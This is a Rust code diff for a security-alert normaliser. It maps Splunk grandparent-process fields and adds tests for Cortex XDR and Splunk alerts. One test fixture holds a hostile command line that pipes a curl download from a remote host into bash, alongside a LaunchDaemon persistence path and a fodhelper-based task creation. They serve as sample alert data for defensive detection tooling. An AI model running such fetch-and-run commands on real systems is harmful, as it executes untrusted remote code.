@@ -2113,6 +2113,19 @@ fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
         "process.parent.executable",
         text("parent_process_path").or_else(|| text("ParentImage")),
     );
+    // A correlation search that joined the grandparent (`grandparent_process_*`).
+    set(
+        "process.parent.parent.command_line",
+        text("grandparent_process"),
+    );
+    set(
+        "process.parent.parent.name",
+        text("grandparent_process_name"),
+    );
+    set(
+        "process.parent.parent.executable",
+        text("grandparent_process_path"),
+    );
     set(
         "process.hash.sha256",
         text("process_hash").map(|h| h.trim_start_matches("SHA256=").to_owned()),
@@ -7436,5 +7449,33 @@ mod tests {
             get(&a, "process.parent.parent.parent.parent.name"),
             "containerd-shim"
         );
+        // Cortex XDR: the OS-level actor between the actor and the causality root is the
+        // parent; the file the action wrote and the remote end it reached are kept.
+        let cx = json!({"alert_id": "203117", "host_name": "mac-1", "agent_os_type": "AGENT_OS_MAC",
+            "actor_process_image_path": "/bin/bash", "actor_process_command_line": "bash",
+            "os_actor_process_image_name": "sh", "os_actor_process_command_line": "/bin/sh -c curl -fsSL https://x.net/a.sh | bash",
+            "causality_actor_process_image_path": "/usr/local/jamf/bin/jamf", "causality_actor_process_command_line": "/usr/local/jamf/bin/jamf policy",
+            "action_file_path": "/Library/LaunchDaemons/com.x.plist", "action_remote_ip": "45.141.87.203", "action_remote_port": 443,
+            "action_external_hostname": "x.net"});
+        let a = from_json(cx, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.parent.command_line"),
+            "/bin/sh -c curl -fsSL https://x.net/a.sh | bash"
+        );
+        assert_eq!(
+            get(&a, "process.parent.parent.executable"),
+            "/usr/local/jamf/bin/jamf"
+        );
+        assert_eq!(get(&a, "file.path"), "/Library/LaunchDaemons/com.x.plist");
+        assert_eq!(get(&a, "destination.domain"), "x.net");
+        assert_eq!(a.doc["destination"]["port"], json!(443));
+        // Splunk: a correlation search's joined grandparent.
+        let sp = json!({"search_name": "Endpoint - x - Rule", "rule_name": "x", "dest": "ws-4",
+            "process": "schtasks /create /tn x", "process_name": "schtasks.exe",
+            "parent_process": "cmd.exe /c schtasks", "parent_process_name": "cmd.exe",
+            "grandparent_process_name": "fodhelper.exe", "grandparent_process_path": "C:\\Windows\\System32\\fodhelper.exe"});
+        let a = from_json(sp, "x").unwrap();
+        assert_eq!(get(&a, "process.parent.parent.name"), "fodhelper.exe");
+        assert!(get(&a, "process.parent.parent.executable").ends_with("fodhelper.exe"));
     }
 }
